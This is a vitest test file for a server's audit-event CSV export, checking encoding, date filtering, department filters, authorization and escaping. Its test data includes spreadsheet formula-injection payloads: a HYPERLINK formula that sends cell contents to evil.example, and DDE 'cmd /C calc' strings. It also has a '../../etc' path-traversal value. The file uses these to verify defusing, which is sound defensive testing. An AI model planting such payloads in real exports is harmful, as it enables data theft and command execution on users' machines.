import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ApiErrorSchema, ApiPaths } from '../../../shared/api.js';
import { EMPTY_HEAD, chainEntry, type JournalEntry } from '../../../shared/journal.js';
import { sha256Hex } from '../../../server/crypto.js';
import { AUDIT_EVENTS_CSV_PATH, CSV_COLUMNS, auditCsvChunks, parseBound, toJst } from '../../../server/ops/audit-export.js';
import { csvField } from '../../../server/ops/csv.js';
import { postJson } from '../helpers.js';
import { bootOpsServer, enrol, type OpsServer } from './ops-app.js';

/** A strict RFC 4180 reader: CRLF records, fields either plain or quoted with "" for a quote. Throws on anything else. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let index = 0;
  while (index < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[index] === '"') {
        index += 1;
        for (;;) {
          const quote = text.indexOf('"', index);
          if (quote < 0) throw new Error('unterminated quoted field');
          field += text.slice(index, quote);
          if (text[quote + 1] === '"') {
            field += '"';
            index = quote + 2;
          } else {
            index = quote + 1;
            break;
          }
        }
      } else {
        const end = text.slice(index).search(/,|\r\n/);
        field = end < 0 ? text.slice(index) : text.slice(index, index + end);
        if (/["\r\n]/.test(field)) throw new Error(`unquoted field with a quote or line break: ${JSON.stringify(field)}`);
        index = end < 0 ? text.length : index + end;
      }
      record.push(field);
      if (text[index] === ',') {
        index += 1;
        continue;
      }
      if (text.startsWith('\r\n', index)) {
        index += 2;
        break;
      }
      throw new Error(`expected , or CRLF at ${index}: ${JSON.stringify(text.slice(index, index + 20))}`);
    }
    records.push(record);
  }
  return records;
}

/** A chain of events with the given times, types and data. */
function chainOf(events: readonly { time: string; type: string; data: Record<string, unknown> }[]): JournalEntry[] {
  const entries: JournalEntry[] = [];
  let head: { seq: number; hash: string } = EMPTY_HEAD;
  for (const event of events) {
    const { entry } = chainEntry(head, { ...event, tz: '+09:00' }, sha256Hex);
    entries.push(entry);
    head = entry;
  }
  return entries;
}

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\tTAB first',
  '\rCR first',
  '＝１＋１',
  '総務課 暗号化USB #12, "特別"\r\n改行あり',
  'NUL\u0000inside',
];

describe('audit export CSV', () => {
  let ops: OpsServer;
  let deviceA: string;
  let deviceB: string;
  let chainA: JournalEntry[];

  beforeEach(async () => {
    ops = await bootOpsServer();
    const a = await enrol(ops, { hostname: '=cmd|"/C calc"!A0' });
    const b = await enrol(ops, { hostname: 'soumu-pc-002' });
    deviceA = a.deviceId;
    deviceB = b.deviceId;
    chainA = chainOf([
      ...HOSTILE_NAMES.map((name, i) => ({
        time: `2026-04-01T0${i}:00:00.000Z`,
        type: 'device.blocked',
        data: {
          device: { id: '0930:6545', serial: `SER-${i}`, name, manufacturer: 'TOSHIBA' },
          decision: 'block',
          rule: { kind: 'rule', line: 3, text: 'block with-interface equals { 08:*:* }', label: '総務課', exceptionId: null },
          user: '田中 太郎',
        },
      })),
      {
        time: '2026-04-30T14:59:59.999Z',
        type: 'device.allowed',
        data: { device: { id: '0930:6545', serial: 'A1B2C3', name: 'TransMemory', manufacturer: 'TOSHIBA' }, decision: 'allow', rule: { kind: 'exception', exceptionId: 'EXC-2026-0001' }, user: 'suzuki' },
      },
      { time: '2026-04-30T15:00:00.000Z', type: 'auth.failed', data: { user: 'after-april', factor: 'pin' } },
      { time: '2026-03-31T14:59:59.999Z', type: 'auth.failed', data: { user: 'before-april', factor: 'pin' } },
    ]);
    expect((await postJson(ops.app, ApiPaths.events, { entries: chainA }, a.credential)).statusCode).toBe(200);
    const chainB = chainOf([{ time: '2026-04-15T03:00:00.000Z', type: 'lock.locked', data: { user: 'sato', trigger: 'idle' } }]);
    expect((await postJson(ops.app, ApiPaths.events, { entries: chainB }, b.credential)).statusCode).toBe(200);
  });
  afterEach(async () => {
    await ops.cleanup();
  });

  const exportCsv = (query: string, bearer: string | null = ops.adminToken) =>
    ops.app.inject({ method: 'GET', url: `${AUDIT_EVENTS_CSV_PATH}?${query}`, headers: bearer === null ? {} : { authorization: `Bearer ${bearer}` } });

  it('streams UTF-8 CSV with a BOM, CRLF records and a header, Japanese text intact', async () => {
    const response = await exportCsv('from=2026-04-01&to=2026-04-30');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="sekimori-events-2026-04-01-2026-04-30.csv"');
    // Streamed: no length known up front.
    expect(response.headers['content-length']).toBeUndefined();
    const bytes = response.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    // April in JST: the 9 hostile events, the one at 23:59:59.999 JST on the 30th, and device B's; not the 31 March or 1 May JST ones.
    expect(records).toHaveLength(1 + HOSTILE_NAMES.length + 1 + 1);
    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const rowsA = records.slice(1).filter((row) => row[column('device_id')] === deviceA);
    expect(rowsA.map((row) => Number(row[column('seq')]))).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    const first = rowsA[0]!;
    expect(first[column('time_jst')]).toBe('2026-04-01 09:00:00.000');
    expect(first[column('time_utc')]).toBe('2026-04-01T00:00:00.000Z');
    expect(first[column('hostname')]).toBe('\'=cmd|"/C calc"!A0');
    expect(first[column('user')]).toBe('田中 太郎');
    expect(first[column('usb_id')]).toBe('0930:6545');
    expect(first[column('usb_manufacturer')]).toBe('TOSHIBA');
    expect(first[column('usb_serial')]).toBe('SER-0');
    expect(first[column('decision')]).toBe('block');
    expect(first[column('rule')]).toBe('line 3 [総務課]: block with-interface equals { 08:*:* }');
    expect(first[column('hash')]).toBe(chainA[0]!.hash);
    expect(JSON.parse(first[column('data')]!)).toEqual(chainA[0]!.data);
    const allowed = rowsA[9]!;
    expect(allowed[column('time_jst')]).toBe('2026-04-30 23:59:59.999');
    expect(allowed[column('approval_or_exception_id')]).toBe('EXC-2026-0001');
    expect(allowed[column('rule')]).toBe('exception EXC-2026-0001');
    const rowB = records.slice(1).find((row) => row[column('device_id')] === deviceB)!;
    expect(rowB[column('hostname')]).toBe('soumu-pc-002');
    expect(rowB[column('user')]).toBe('sato');
  });

  it('defuses every cell a spreadsheet would read as a formula, and replaces control characters', async () => {
    const records = parseCsv((await exportCsv(`from=2026-04-01&to=2026-04-30&device=${deviceA}`)).rawPayload.subarray(3).toString('utf8'));
    const names = records.slice(1, 1 + HOSTILE_NAMES.length).map((row) => row[CSV_COLUMNS.indexOf('usb_name')]);
    expect(names).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      '\'+1+cmd|\' /C calc\'!A0',
      '\'-2+3',
      '\'@SUM(1,2)',
      '\'\tTAB first',
      '\'\rCR first',
      '\'＝１＋１',
      '総務課 暗号化USB #12, "特別"\r\n改行あり',
      'NUL\uFFFDinside',
    ]);
    // No cell of the whole export starts with a formula character.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it('filters by device ids (repeated or comma-separated) and by hostname prefix', async () => {
    const count = async (query: string) => parseCsv((await exportCsv(query)).rawPayload.subarray(3).toString('utf8')).length - 1;
    expect(await count(`from=2026-01-01&to=2026-12-31&device=${deviceB}`)).toBe(1);
    expect(await count(`from=2026-01-01&to=2026-12-31&device=${deviceA}&device=${deviceB}`)).toBe(13);
    expect(await count(`from=2026-01-01&to=2026-12-31&device=${deviceA},${deviceB}`)).toBe(13);
    expect(await count('from=2026-01-01&to=2026-12-31&hostnamePrefix=soumu-')).toBe(1);
    expect(await count(`from=2026-01-01&to=2026-12-31&hostnamePrefix=soumu-&device=${deviceA}`)).toBe(0);
    expect(await count(`from=2026-01-01&to=2026-12-31&device=dev_${'9'.repeat(32)}`)).toBe(0);
    expect(await count('from=2026-04-15T12:00:00%2B09:00&to=2026-04-15T12:00:00.001%2B09:00')).toBe(1);
  });

  it('filters by department (所属): only that department’s terminals’ events, combined with the other filters, recorded in the trail', async () => {
    const setDepartment = async (deviceId: string, department: string | null) => {
      const response = await ops.app.inject({
        method: 'PUT',
        url: `${ApiPaths.adminDevices}/${deviceId}/department`,
        headers: { authorization: `Bearer ${ops.adminToken}`, 'content-type': 'application/json' },
        payload: JSON.stringify({ department }),
      });
      expect(response.statusCode, response.body).toBe(200);
    };
    const rows = async (query: string) => {
      const response = await exportCsv(query);
      expect(response.statusCode, response.body).toBe(200);
      return parseCsv(response.rawPayload.subarray(3).toString('utf8')).slice(1);
    };
    await setDepartment(deviceB, '総務課');
    await setDepartment(deviceA, '税務課');
    const period = 'from=2026-01-01&to=2026-12-31';
    const soumu = await rows(`${period}&department=${encodeURIComponent('総務課')}`);
    expect(soumu.map((record) => record[3])).toEqual([deviceB]);
    expect(soumu[0]![6]).toBe('lock.locked');
    const zeimu = await rows(`${period}&department=${encodeURIComponent('税務課')}`);
    expect(zeimu).toHaveLength(12);
    expect(new Set(zeimu.map((record) => record[3]))).toEqual(new Set([deviceA]));
    // Trimmed like the department an administrator sets; combined with the other filters (all must match).
    expect(await rows(`${period}&department=${encodeURIComponent(' 総務課 ')}&hostnamePrefix=soumu-`)).toHaveLength(1);
    expect(await rows(`${period}&department=${encodeURIComponent('総務課')}&device=${deviceA}`)).toHaveLength(0);
    expect(await rows(`${period}&department=${encodeURIComponent('市民課')}`)).toHaveLength(0);
    // A terminal moved to another department leaves the first one's export.
    await setDepartment(deviceB, null);
    expect(await rows(`${period}&department=${encodeURIComponent('総務課')}`)).toHaveLength(0);
    for (const bad of ['', '%20%20', encodeURIComponent('総務\n課'), 'x'.repeat(101)]) {
      expect((await exportCsv(`${period}&department=${bad}`)).statusCode, bad).toBe(400);
    }
    const trail = (await ops.app.inject({ method: 'GET', url: `${ApiPaths.adminActions}?limit=20`, headers: { authorization: `Bearer ${ops.adminToken}` } })).json<{
      actions: { action: string; detail: Record<string, unknown> }[];
    }>().actions;
    expect(trail.filter((action) => action.action === 'audit.export').map((action) => action.detail.department)).toContain('総務課');
  });

  it('refuses a bad period or device id with 400, and a missing credential with 401', async () => {
    for (const query of ['from=2026-04-31&to=2026-05-01', 'from=2026-04-01T00:00:00&to=2026-05-01', 'from=2026-05-01&to=2026-04-01', 'from=2026-04-01&to=2026-05-01&device=../../etc', 'to=2026-05-01', 'from=2026-04-01&to=2026-05-01&extra=1']) {
      const response = await exportCsv(query);
      expect(response.statusCode, query).toBe(400);
      expect(ApiErrorSchema.parse(response.json()).error.code).toBe('bad-request');
    }
    const anonymous = await exportCsv('from=2026-04-01&to=2026-05-01', null);
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.headers['www-authenticate']).toBe('Bearer');
  });

  it('reads in bounded windows: any window size gives the same rows', async () => {
    const scope = { range: { from: '2026-04-01T00:00:00.000Z', to: '2027-01-01T00:00:00.000Z' }, deviceIds: null };
    const collect = async (windowRows: number, deviceIds: readonly string[] | null = null) => {
      let text = '';
      for await (const chunk of auditCsvChunks(ops.ops.queries, { ...scope, deviceIds }, windowRows)) text += chunk;
      return text;
    };
    const whole = await collect(10_000);
    for (const windowRows of [1, 2, 3, 7]) expect(await collect(windowRows)).toBe(whole);
    const sorted = [deviceA, deviceB].sort();
    expect(await collect(2, sorted)).toBe(whole);
  });
});

describe('CSV cells and periods', () => {
  it('quotes every field and doubles quotes', () => {
    expect(csvField('a"b,c')).toBe('"a""b,c"');
    expect(csvField(null)).toBe('""');
    expect(csvField(42)).toBe('"42"');
  });

  it('reads a date as a day in Japan and an instant with its offset', () => {
    expect(parseBound('2026-04-01', false)).toBe('2026-03-31T15:00:00.000Z');
    expect(parseBound('2026-04-30', true)).toBe('2026-04-30T15:00:00.000Z');
    expect(parseBound('2026-04-01T09:00:00+09:00', false)).toBe('2026-04-01T00:00:00.000Z');
    expect(parseBound('2026-02-30', false)).toBeNull();
    expect(parseBound('2026-04-01T09:00:00', false)).toBeNull();
    expect(toJst('2026-12-31T15:30:00.000Z')).toBe('2027-01-01 00:30:00.000');
  });
});

describe('audit export authorization', () => {
  it('takes the composition root\'s own authentication as a scope, and refuses to register with none', async () => {
    const { default: Fastify } = await import('fastify');
    const { auditExportRoutes } = await import('../../../server/ops/audit-export.js');
    const { ApiHttpError } = await import('../../../server/http/api-error.js');
    const { zodValidatorCompiler } = await import('../../../server/http/zod-schemas.js');
    const queries = { eventWindow: () => ({ rows: [], next: null }), existingDeviceIds: () => [], deviceIdsByHostnamePrefix: () => [], deviceIdsByDepartment: () => [], hostnameOf: () => null, stats: () => { throw new Error('unused'); }, close: () => {} };
    const app = Fastify();
    app.setValidatorCompiler(zodValidatorCompiler);
    app.setErrorHandler((error: { statusCode?: number }, _request, reply) => reply.code(error.statusCode ?? 500).send({}));
    const seen: unknown[] = [];
    await app.register(auditExportRoutes, {
      queries,
      scope: (scope) => {
        scope.addHook('onRoute', (route) => {
          seen.push(route.config);
        });
        scope.addHook('onRequest', (request, _reply, done) => {
          done(request.headers['x-role'] === 'auditor' ? undefined : new ApiHttpError('forbidden', 'no'));
        });
      },
    });
    expect(seen.length).toBeGreaterThan(0);
    for (const config of seen) expect(config).toMatchObject({ access: 'read' });
    expect((await app.inject({ method: 'GET', url: `${AUDIT_EVENTS_CSV_PATH}?from=2026-04-01&to=2026-04-02` })).statusCode).toBe(403);
    const allowed = await app.inject({ method: 'GET', url: `${AUDIT_EVENTS_CSV_PATH}?from=2026-04-01&to=2026-04-02`, headers: { 'x-role': 'auditor' } });
    expect(allowed.statusCode).toBe(200);
    expect(parseCsv(allowed.rawPayload.subarray(3).toString('utf8'))).toEqual([[...CSV_COLUMNS]]);
    await app.close();

    const bare = Fastify();
    bare.setValidatorCompiler(zodValidatorCompiler);
    await expect(bare.register(auditExportRoutes, { queries })).rejects.toThrow(/no authorization/);
    await bare.close();
  });
});
